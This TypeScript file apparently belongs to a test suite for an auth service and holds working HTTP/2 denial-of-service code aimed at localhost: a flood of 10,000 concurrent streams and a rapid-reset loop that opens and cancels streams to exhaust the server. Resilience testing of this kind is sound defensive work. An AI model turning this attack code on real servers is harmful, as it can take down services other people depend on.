/** Whoever asks for more than his share: floods of streams, and streams that are reset as soon as they are opened. */
import { type ClientHttp2Session, connect, constants, type OutgoingHttpHeaders } from 'node:http2';
import { serve } from '../processes.ts';

export interface Attack {
  kind: 'flood' | 'resets';
  door: 'http' | 'grpc';
  port: number;
}

const CONNECTIONS = 100;
const STREAMS = 100;
const RESETS = 10;
const RESET_MS = 3_000;

const HEADERS: Record<Attack['door'], OutgoingHttpHeaders> = {
  http: { ':method': 'POST', ':path': '/api/v1/auth/validate', 'content-type': 'application/json' },
  grpc: {
    ':method': 'POST',
    ':path': '/perfect21.auth.AuthService/ValidateToken',
    'content-type': 'application/grpc',
    te: 'trailers',
  },
};
const token = 'x'.repeat(90);
const BODY = {
  http: Buffer.from(JSON.stringify({ token })),
  // a frame of gRPC: not compressed, 92 bytes, field 1 of 90
  grpc: Buffer.concat([Buffer.from([0, 0, 0, 0, 92, 0x0a, 90]), Buffer.from(token)]),
};

const open = (port: number): Promise<ClientHttp2Session> =>
  new Promise((resolve) => {
    const session = connect(`http://127.0.0.1:${port}`);
    session.on('error', () => resolve(session));
    session.once('remoteSettings', () => resolve(session));
  });

const flood = async ({ door, port }: Attack): Promise<void> => {
  const sessions = await Promise.all(Array.from({ length: CONNECTIONS }, () => open(port)));
  const call = (session: ClientHttp2Session) =>
    new Promise<void>((resolve) => {
      if (session.destroyed || session.closed) return resolve();
      const stream = session.request(HEADERS[door]);
      stream.on('error', () => {}).once('close', resolve);
      stream.resume();
      stream.end(BODY[door]);
    });
  await Promise.all(sessions.flatMap((session) => Array.from({ length: STREAMS }, () => call(session))));
  for (const session of sessions) session.destroy();
};

const resets = async ({ door, port }: Attack): Promise<void> => {
  const end = performance.now() + RESET_MS;
  const reset = async () => {
    while (performance.now() < end) {
      const session = await open(port);
      const alive = () => !session.destroyed && !session.closed && performance.now() < end;
      while (alive()) {
        for (let n = 0; n < 50 && alive(); n += 1) {
          const stream = session.request(HEADERS[door]).on('error', () => {});
          stream.close(constants.NGHTTP2_CANCEL);
        }
        await new Promise(setImmediate);
      }
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: RESETS }, reset));
};

if (import.meta.main)
  serve(async (attack: Attack) => {
    await { flood, resets }[attack.kind](attack);
    return 'over';
  });
